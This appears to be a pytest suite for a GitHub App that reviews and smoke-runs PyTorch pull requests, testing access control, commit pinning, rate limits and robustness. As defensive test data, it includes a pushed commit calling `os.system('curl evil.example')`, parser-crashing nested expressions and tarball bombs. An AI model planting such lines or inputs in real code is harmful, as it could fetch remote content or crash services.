"""Safe to install org-wide: who may make the App execute PR code, which commit it executes, and that
no input can take a worker down.

End to end: the webhook (real HTTP), a review worker and a GPU-queue worker (real Celery processes),
a private Redis, and the GitHub emulator (PyGithub unmodified against it). "Nothing ran" is never
inferred from waiting: a later run the test asks for goes through the same single-process GPU queue,
so once it has finished, every job queued before it has been handled too.
"""
from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
import redis

from github_emulator.webhooks import issue_comment_payload, real_payload
from bot.commands import REPLY_MARKER
from tests.conftest import ROOT, Worker, completed_run, deliver, new_repo, pr_payload, wait_for

SMOKE = "torchreview / smoke"
CONFIG = ".github/torchreview.yml"
MANUAL = "smoke:\n  enabled: false\n  timeout: 120\n"
MODEL = '''import torch
import torch.nn as nn


class TinyMLP(nn.Module):
    def __init__(self, in_features=8, hidden=16, num_classes=3):
        super().__init__()
        self.net = nn.Sequential(nn.Linear(in_features, hidden), nn.ReLU(), nn.Linear(hidden, num_classes))

    def forward(self, x):
        return self.net(x)
'''
WIDER = MODEL.replace("hidden=16", "hidden=24")


@pytest.fixture(scope="module")
def gpu_worker(stack):
    with Worker(stack["env"], queues="gpu", concurrency=1) as worker:  # one at a time: the queue is FIFO
        yield worker


@pytest.fixture
def store(stack):
    return redis.Redis.from_url(stack["env"]["REDIS_URL"])


def smoke_runs(state, sha):
    return state.check_runs_for(sha, name=SMOKE)


def completed_smoke(state, sha, timeout=240.0):
    def done():
        runs = [r for r in smoke_runs(state, sha) if r.status == "completed"]
        return runs[0] if runs else None

    return wait_for(done, timeout, f"a completed smoke check run on {sha[:7]}")


def tarballs(state, name):
    """The commits whose tarball the App asked for (what it could have executed)."""
    prefix = f"/repos/{name}/tarball/"
    return {r.path[len(prefix):] for r in state.requests if r.method == "GET" and r.path.startswith(prefix)}


def opened(stack, repo_files=None, base=None, user="alice", role="write", **kwargs):
    """A repository, a PR on it whose opening was delivered (so the webhook knows its head)."""
    state = stack["state"]
    repo, name = new_repo(state, {}, {CONFIG: MANUAL, **(base or {})})
    if role:
        state.add_collaborator(repo, user, role)
    pr = state.open_pull_request(repo, repo_files or {"models/net.py": MODEL}, user=user, **kwargs)
    assert deliver(stack, "pull_request", pr_payload("opened", name, pr)).status_code == 202
    return repo, name, pr


def comment(stack, pr, body, user, association="COLLABORATOR"):
    data = issue_comment_payload(stack["state"], pr, body, user=user, author_association=association)
    assert deliver(stack, "issue_comment", data).status_code == 202
    return stack["state"].issue_comments[data["comment"]["id"]]


def replies(state, pr, text):
    """The bot's replies to commands (not its review summary) that contain ``text``."""
    return [c for c in state.issue_comments_for(pr) if REPLY_MARKER in c.body and text in c.body]


def run_smoke_and_wait(stack, pr, sha):
    """An authorized run through the same FIFO GPU queue: when it is done, earlier jobs are too."""
    comment(stack, pr, f"/review smoke {sha}", "octo-maintainer")
    return completed_smoke(stack["state"], sha)


# ---- who may run PR code ---------------------------------------------------------------------------


@pytest.mark.parametrize("association, role", [
    ("COLLABORATOR", "read"),  # a read-only collaborator
    ("COLLABORATOR", "triage"),
    ("MEMBER", None),  # an organization member without write access: the public repo gives "read"
    ("OWNER", None),  # whatever the payload claims, GitHub's permission decides
])
def test_users_without_write_access_cannot_run_smoke(stack, gpu_worker, association, role):
    state = stack["state"]
    repo, name, pr = opened(stack)
    user = f"eve-{association.lower()}-{role}"  # one each: refusals are rate-limited per user
    if role:
        state.add_collaborator(repo, user, role)
    command = comment(stack, pr, "/review smoke", user, association)
    wait_for(lambda: command.reactions, 60, "a reaction to the command")
    assert [r.content for r in command.reactions] == ["-1"]  # not 👀: refused, and no reply
    assert state.requests_matching("GET", f"/repos/{name}/collaborators/{user}/permission")
    assert replies(state, pr, "") == []
    run_smoke_and_wait(stack, pr, pr.head_sha)  # the queue is drained up to here
    assert len(smoke_runs(state, pr.head_sha)) == 1  # only the maintainer's run
    assert replies(state, pr, "") == replies(state, pr, "is queued")  # the maintainer's only


def test_rerun_button_on_a_smoke_check_run_needs_write_access(stack, gpu_worker):
    state = stack["state"]
    repo, name, pr = opened(stack)
    state.add_collaborator(repo, "reader", "read")
    first = run_smoke_and_wait(stack, pr, pr.head_sha)

    def rerequest(sender):
        data = real_payload("check_run.rerequested")
        data["repository"].update(full_name=name, name=name.split("/")[1])
        data["installation"] = {"id": 1}
        data["sender"].update(login=sender, type="User")
        data["check_run"].update(id=first.id, name=SMOKE, head_sha=pr.head_sha,
                                 pull_requests=[{"number": pr.number, "id": pr.id, "url": "x", "head": {}, "base": {}}])
        data["check_run"]["app"]["id"] = 4242
        assert deliver(stack, "check_run", data).status_code == 202

    rerequest("reader")
    rerequest("octo-maintainer")  # queued after the reader's: when it is done, the reader's was handled
    wait_for(lambda: len([r for r in smoke_runs(state, pr.head_sha) if r.status == "completed"]) == 2, 240,
             "the maintainer's re-run")
    assert len(smoke_runs(state, pr.head_sha)) == 2  # the first run and the maintainer's re-run, not the reader's
    assert state.requests_matching("GET", f"/repos/{name}/collaborators/reader/permission")


def test_no_automatic_run_without_the_authors_permission_and_never_for_forks(stack, gpu_worker):
    state = stack["state"]
    auto = {CONFIG: "smoke:\n  enabled: true\n  timeout: 120\n  trust: collaborators\n"}
    cases = []
    # a same-repository PR whose author the payload calls MEMBER, with read access only
    repo, name = new_repo(state, {}, auto)
    pr = state.open_pull_request(repo, {"models/net.py": MODEL}, user="member-reader", author_association="MEMBER")
    cases.append((name, pr))
    # a write collaborator's PR from a fork
    repo, name = new_repo(state, {}, auto)
    state.add_collaborator(repo, "alice", "write")
    fork = state.fork(repo, "alice")
    cases.append((name, state.open_pull_request(repo, {"models/net.py": MODEL}, user="alice", head_repo=fork)))
    # smoke.trust: maintainers, and the author has write (not maintain)
    repo, name = new_repo(state, {}, {CONFIG: auto[CONFIG].replace("collaborators", "maintainers")})
    state.add_collaborator(repo, "writer", "write")
    cases.append((name, state.open_pull_request(repo, {"models/net.py": MODEL}, user="writer")))
    # the control: a write collaborator's same-repository PR runs automatically
    repo, control_name = new_repo(state, {}, auto)
    state.add_collaborator(repo, "alice", "write")
    control = state.open_pull_request(repo, {"models/net.py": MODEL}, user="alice")
    everything = cases + [(control_name, control)]
    for name, pr in everything:
        assert deliver(stack, "pull_request", pr_payload("opened", name, pr)).status_code == 202
    for _name, pr in everything:
        completed_run(state, pr.head_sha)  # static reviews done: every automatic smoke job is queued
    completed_smoke(state, control.head_sha)
    last_name, last = cases[-1]
    run_smoke_and_wait(stack, last, last.head_sha)  # drains the GPU queue past the automatic jobs
    for name, pr in cases:
        assert len(smoke_runs(state, pr.head_sha)) == (1 if pr is last else 0), name  # only the explicit run
        if pr is not last:
            assert tarballs(state, name) == set(), name


# ---- which commit runs -------------------------------------------------------------------------------


@pytest.fixture
def bare_webhook(redis_url, tmp_path):
    """The webhook alone on its own Redis database (no worker takes its jobs)."""
    import threading

    from werkzeug.serving import make_server

    from bot.settings import Settings
    from bot.webhook import create_app
    from tests.conftest import WEBHOOK_SECRET

    url = redis_url.rsplit("/", 1)[0] + "/3"
    client = redis.Redis.from_url(url)
    client.flushdb()
    settings = Settings(app_id=None, private_key=None, webhook_secret=WEBHOOK_SECRET, redis_url=url, data_dir=tmp_path)
    server = make_server("127.0.0.1", 0, create_app(settings), threaded=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield {"url": f"http://127.0.0.1:{server.server_port}{settings.webhook_path}"}, client
    server.shutdown()
    client.flushdb()


def _queued(client):
    import base64

    return [json.loads(base64.b64decode(json.loads(raw)["body"]))[0][0] for raw in client.lrange("reviews", 0, -1)]


def test_the_webhook_pins_smoke_commands_to_the_head_pushed_before_them(bare_webhook):
    hook, client = bare_webhook

    def pull_request(action, sha, at):
        data = real_payload(f"pull_request.{action}")
        data["pull_request"].update(number=7, updated_at=at)
        data["pull_request"]["head"]["sha"] = sha
        data["repository"]["full_name"], data["installation"] = "octo-org/pinned", {"id": 1}
        assert deliver(hook, "pull_request", data).status_code == 202

    def smoke_command(at, body="/review smoke"):
        data = real_payload("derived/issue_comment.created.on_pull_request")
        data["issue"]["number"] = 7
        data["repository"]["full_name"], data["installation"] = "octo-org/pinned", {"id": 1}
        data["comment"].update(body=body, created_at=at, id=len(_queued(client)) + 1)
        assert deliver(hook, "issue_comment", data).status_code == 202
        return _queued(client)[0]  # kombu pushes on the left

    pull_request("opened", "a" * 40, "2026-01-01T10:00:00Z")
    assert smoke_command("2026-01-01T10:00:00Z")["head_sha"] == "a" * 40  # same second: before
    assert smoke_command("2026-01-01T10:05:00Z")["head_sha"] == "a" * 40
    # a push at 10:06 whose delivery arrives before that of a comment written at 10:05:30
    pull_request("synchronize", "b" * 40, "2026-01-01T10:06:00Z")
    assert smoke_command("2026-01-01T10:05:30Z")["head_sha"] is None  # unknown: the worker asks for a sha
    assert smoke_command("2026-01-01T10:07:00Z")["head_sha"] == "b" * 40
    pull_request("synchronize", "a" * 40, "2026-01-01T10:00:00Z")  # a late, older delivery changes nothing
    assert smoke_command("2026-01-01T10:08:00Z")["head_sha"] == "b" * 40
    assert smoke_command("2026-01-01T10:08:00Z", "/review")["head_sha"] is None  # only smoke is pinned


def test_a_push_after_the_command_is_refused_and_nothing_runs(stack, gpu_worker):
    state = stack["state"]
    repo, name, pr = opened(stack)
    seen = pr.head_sha
    permission = f"/repos/{name}/collaborators/octo-maintainer/permission"
    # Hold the command at its authorization (GitHub answers 502, the job retries) until the push is in.
    state.faults.fail("GET", permission, status=502, times=None)
    try:
        comment(stack, pr, "/review smoke", "octo-maintainer")
        wait_for(lambda: [r for r in state.requests_matching("GET", permission) if r.status == 502], 60,
                 "the command's first authorization attempt")
        pushed = state.push(pr, {"models/net.py": WIDER + "\nimport os\nos.system('curl evil.example')\n"})
        assert deliver(stack, "pull_request", pr_payload("synchronize", name, pr)).status_code == 202
    finally:
        state.faults.clear()
    (refusal,) = wait_for(lambda: replies(state, pr, "changed after your comment"), 120, "the refusal")
    assert seen[:12] in refusal.body and f"`/review smoke {pushed}`" in refusal.body
    run_smoke_and_wait(stack, pr, pushed)  # drains the GPU queue
    assert smoke_runs(state, seen) == []
    assert tarballs(state, name) == {pushed, pr.base_sha}  # only the explicitly requested commit


def test_review_smoke_sha_runs_exactly_that_commit(stack, gpu_worker):
    state = stack["state"]
    repo, name, pr = opened(stack)
    first = pr.head_sha
    second = state.push(pr, {"models/net.py": WIDER})
    deliver(stack, "pull_request", pr_payload("synchronize", name, pr))
    comment(stack, pr, f"/review smoke {first[:10]}", "octo-maintainer")  # an earlier commit of the PR
    run = completed_smoke(state, first)
    assert run.conclusion == "success" and first[:7] in run.output_summary
    other_repo, _other = new_repo(state, {})
    stranger = state.open_pull_request(other_repo, {"x.py": "import torch\n"}).head_sha
    comment(stack, pr, f"/review smoke {stranger}", "octo-maintainer")
    wait_for(lambda: replies(state, pr, "is not a commit of this pull request"), 60, "the refusal")
    run_smoke_and_wait(stack, pr, second)
    assert tarballs(state, name) == {first, second, pr.base_sha}
    assert len(smoke_runs(state, first)) == 1 and len(smoke_runs(state, second)) == 1


def test_a_retried_smoke_job_runs_the_same_commit(stack, gpu_worker):
    state = stack["state"]
    repo, name, pr = opened(stack)
    pinned = pr.head_sha
    tarball = f"/repos/{name}/tarball/*"
    state.faults.fail("GET", tarball, status=502, times=None)  # the first attempts fail after authorization
    try:
        comment(stack, pr, "/review smoke", "octo-maintainer")
        wait_for(lambda: [r for r in state.requests if r.path.startswith(f"/repos/{name}/tarball/") and r.status == 502],
                 120, "a failed tarball download")
        pushed = state.push(pr, {"models/net.py": WIDER})
        deliver(stack, "pull_request", pr_payload("synchronize", name, pr))
    finally:
        state.faults.clear()
    run = completed_smoke(state, pinned)
    assert run.conclusion == "success"
    assert len(smoke_runs(state, pinned)) == 1  # the retry completed its first attempt's check run
    assert pushed not in tarballs(state, name) and smoke_runs(state, pushed) == []


# ---- unauthorized commenters cost (almost) nothing --------------------------------------------------


def test_unauthorized_commands_get_a_few_reactions_then_nothing(stack, store):
    state = stack["state"]
    repo, name, pr = opened(stack)
    comments = [comment(stack, pr, "/review", "spammer", "NONE") for _ in range(5)]
    keys = [f"torchreview:refused:1:{c.id}" for c in comments]
    wait_for(lambda: all(store.get(k) for k in keys), 60, "a decision on every command")
    decisions = sorted(store.get(k).decode() for k in keys)
    assert decisions == ["quiet", "quiet", "react", "react", "react"]
    wait_for(lambda: sum(len(c.reactions) for c in comments) == 3, 60, "three reactions")
    assert all([r.content for r in c.reactions] in ([], ["-1"]) for c in comments)
    assert replies(state, pr, "") == []


def test_a_spent_write_budget_requeues_the_job_instead_of_holding_the_worker(stack, store):
    """Installation 2 has spent its writes for the next minutes. Its commands must go
    back on the queue (a countdown), not sleep in the worker: installation 1's command, sent after
    more of them than the worker has processes, is answered while they all still wait."""
    import time

    state = stack["state"]
    repo1, name1, pr1 = opened(stack)  # installation 1 (created first by new_repo)
    state.add_installation("budget-org", installation_id=2)
    repo = state.add_repo(f"budget-org/models-{time.time_ns()}", files={"README.md": "# m\n"})
    state.add_collaborator(repo, "octo-maintainer", "maintain")
    waiting_pr = state.open_pull_request(repo, {"train.py": "import torch\n"})
    # 80 writes stamped two minutes ahead: they stay in the budget's sliding window for the whole test
    store.zadd("torchreview:writes:2", {f"write-{n}": time.time() + 120 for n in range(80)})
    store.expire("torchreview:writes:2", 300)
    try:
        for _ in range(3):  # more than the worker's 2 processes
            data = issue_comment_payload(state, waiting_pr, "/review help", user="octo-maintainer", installation_id=2)
            assert deliver(stack, "issue_comment", data).status_code == 202
        comment(stack, pr1, "/review help", "octo-maintainer")
        wait_for(lambda: replies(state, pr1, "torchreview commands"), 60, "installation 1's answer")
        assert replies(state, waiting_pr, "") == []  # installation 2's commands are still waiting
        assert not any(c.reactions for c in state.issue_comments_for(waiting_pr))
    finally:
        store.delete("torchreview:writes:2")


# ---- no input takes a worker down ---------------------------------------------------------------------


NESTED = "import torch\n\nx = " + "(" * 1500 + "1" + ")" * 1500 + "\n"  # 3 KB: SIGSEGV in libcst
CHAIN = "import torch\n\nx = " + "+".join(["1"] * 20_000) + "\n"  # 40 KB: a minute, then a crash
FINE = "import torch\n\nstate = torch.symeig(a)\n"  # TR810: a stable rule's finding fails the check


def test_hostile_files_become_errors_and_the_review_completes(stack, store):
    state = stack["state"]
    repo, name, pr = opened(stack, {"a/nested.py": NESTED, "a/chain.py": CHAIN, "a/fine.py": FINE})
    run = completed_run(state, pr.head_sha, timeout=120)
    assert run.conclusion == "failure"  # the real finding in fine.py (torch.symeig) still counts
    assert "nested.py" in run.output_summary + (run.output_text or "")
    assert "chain.py" in run.output_summary + (run.output_text or "")
    assert any(c.path == "a/fine.py" for c in state.review_comments_for(pr))
    assert not store.exists(f"torchreview:lock:{name}#{pr.number}")  # released
    assert stack["worker"].proc.poll() is None  # the worker is alive


@pytest.mark.parametrize("source", [NESTED, CHAIN, "import torch\nx = f'{" + "[" * 1500 + "]" * 1500 + "}'\n",
                                    "import torch\nx = " + "not " * 5000 + "1\n",
                                    "import torch\nx = a" + ".b" * 5000 + "\n"])
def test_the_engine_reports_too_complex_without_crashing(tmp_path, source):
    path = tmp_path / "hostile.py"
    path.write_text(source)
    # in a child process: without the guard, this is a SIGSEGV (or minutes of parsing)
    done = subprocess.run([sys.executable, "-m", "bot.cli", "check", str(path), "--format", "json"],
                          cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert done.returncode in (0, 1), done.stderr[-2000:]
    errors = json.loads(done.stdout)["errors"]
    assert [e["kind"] for e in errors] == ["too-complex"]


@pytest.mark.parametrize("source", [CHAIN, "import torch\nx = " + "not " * 5000 + "1\n",
                                    "import torch\nx = " + "lambda: " * 3000 + "1\n"])
def test_finding_smoke_targets_survives_hostile_files(source):
    """The GPU worker reads the PR's files with ast before anything runs: a hostile one is left out."""
    from gpu_runner.targets import find_targets

    found = find_targets({"m/bad.py": source, "m/net.py": MODEL}, {"m/bad.py": {1, 2, 3}, "m/net.py": set(range(1, 20))})
    assert [(t.path, t.name) for t in found] == [("m/net.py", "TinyMLP")]


def test_the_guard_passes_real_code():
    """Every file of this repository, and a sample of the installed torch package, is parsed normally."""
    import torch

    from analyzers.guard import complexity_problem

    files = [p for p in sorted(ROOT.glob("**/*.py")) if ".venv" not in p.relative_to(ROOT).parts]
    files += sorted(Path(torch.__file__).parent.glob("**/*.py"))[::10]
    checked = 0
    for path in files:
        if path.stat().st_size > 1_000_000:
            continue
        text = path.read_text(encoding="utf-8", errors="replace")
        assert complexity_problem(text) is None, path
        checked += 1
    assert checked > 250


def test_tarball_bombs_are_refused(stack, tmp_path):
    """A small tarball that unpacks to too much, or to too many files, stops before it is written out."""
    from bot.github_client import GitHubClients
    from bot.settings import Settings
    from bot.smoke import TarballTooLarge, download_tree

    state = stack["state"]
    repo, name = new_repo(state, {}, {"zeros.bin": b"\0" * (48 << 20)})  # a 48 KiB tarball
    many, many_name = new_repo(state, {}, {f"pkg/m{i}.py": "" for i in range(120)})
    env = stack["env"]
    clients = GitHubClients(Settings(app_id=4242, private_key=env["GITHUB_PRIVATE_KEY"], webhook_secret="s",
                                     api_url=env["GITHUB_API_URL"], github_write_interval=0))
    gh_repo = clients.for_installation(1).get_repo(name)
    with pytest.raises(TarballTooLarge, match="unpacks to over 16 MiB"):
        download_tree(gh_repo, repo.branches[repo.default_branch], tmp_path / "bomb", max_bytes=16 << 20)
    assert sum(f.stat().st_size for f in (tmp_path / "bomb").rglob("*") if f.is_file()) <= 16 << 20
    with pytest.raises(TarballTooLarge, match="over 50 entries"):
        download_tree(clients.for_installation(1).get_repo(many_name), many.branches[many.default_branch], tmp_path / "many",
                      max_members=50)
    fine = download_tree(gh_repo, repo.branches[repo.default_branch], tmp_path / "fine", max_bytes=64 << 20)
    assert (fine / "zeros.bin").stat().st_size == 48 << 20


def _analyze(key, item):
    import ctypes
    import time

    if item == "segfault":
        ctypes.string_at(0)  # a real SIGSEGV, as libcst's stack overflow gives
    if item == "stall":
        time.sleep(3600)
    if item == "hog":
        bytearray(64 << 30)
    return f"analyzed {key}"


def test_a_crashing_or_stalling_analysis_costs_one_file_not_the_worker():
    from analyzers.isolation import run_isolated

    items = [("a", "ok"), ("b", "segfault"), ("c", "ok"), ("d", "stall"), ("e", "hog"), ("f", "ok")]
    results = run_isolated(items, _analyze, lambda key, kind, message: (kind, message), seconds=3,
                           memory=1 << 30)
    assert results["a"] == "analyzed a" and results["c"] == "analyzed c" and results["f"] == "analyzed f"
    assert results["b"] == ("parser-crash", "the analysis crashed (SIGSEGV); not analyzed")
    assert results["d"][0] == "timeout"
    assert results["e"] == ("parser-crash", "the analysis needed over 1024 MiB; not analyzed")


def test_a_review_does_a_bounded_amount_of_work(stack):
    """Past the budget, files are listed as skipped, neither fetched nor parsed."""
    from analyzers.config import Config
    from bot.github_client import GitHubClients
    from bot.pipeline import collect_changed_files
    from bot.settings import Settings

    state = stack["state"]
    repo, name = new_repo(state, {})
    files = {f"m{i}.py": f"import torch\nx{i} = {i}\n" for i in range(5)}
    pr = state.open_pull_request(repo, files)
    env = stack["env"]
    clients = GitHubClients(Settings(app_id=4242, private_key=env["GITHUB_PRIVATE_KEY"], webhook_secret="s",
                                     api_url=env["GITHUB_API_URL"], github_write_interval=0))
    gh_repo = clients.for_installation(1).get_repo(name)
    changed = collect_changed_files(gh_repo, gh_repo.get_pull(pr.number), pr.head_sha, Config(), max_files=2)
    assert changed.reviewed == ["m0.py", "m1.py"]
    assert [(n.path, n.kind) for n in changed.notes] == [("m2.py", "skipped"), ("m3.py", "skipped"), ("m4.py", "skipped")]
    fetched = {r.path.rsplit("/", 1)[1] for r in state.requests_matching("GET", f"/repos/{name}/contents/*")}
    assert fetched == {"m0.py", "m1.py"}
    by_bytes = collect_changed_files(gh_repo, gh_repo.get_pull(pr.number), pr.head_sha, Config(), max_bytes=30)
    assert len(by_bytes.reviewed) == 2 and len(by_bytes.notes) == 3  # 2 files of 20 bytes: 30 is spent


def test_the_static_reviews_code_archive_keeps_only_code_within_its_caps(stack, tmp_path):
    """The repository context comes from the zipball (never the tarball the smoke job executes), .py only."""
    from bot.archives import ArchiveTooLarge, download_code
    from bot.github_client import GitHubClients
    from bot.settings import Settings

    state = stack["state"]
    repo, name = new_repo(state, {}, {"pkg/model.py": "import torch\n", "data.bin": b"\0" * (8 << 20),
                                       "big.py": "x = 1\n" * (3 << 20)})
    env = stack["env"]
    clients = GitHubClients(Settings(app_id=4242, private_key=env["GITHUB_PRIVATE_KEY"], webhook_secret="s",
                                     api_url=env["GITHUB_API_URL"], github_write_interval=0))
    gh_repo = clients.for_installation(1).get_repo(name)
    head = repo.branches[repo.default_branch]
    code = download_code(gh_repo, head, tmp_path / "code")
    assert sorted(str(p.relative_to(code)) for p in code.rglob("*") if p.is_file()) == ["big.py", "pkg/model.py"]
    with pytest.raises(ArchiveTooLarge, match="unpacks to over 16 MiB"):
        download_code(gh_repo, head, tmp_path / "capped", max_bytes=16 << 20)
    assert not (tmp_path / "capped").exists()  # refused from the archive's directory, before writing
    assert tarballs(state, name) == set()  # reading code for context never touches what the smoke job runs
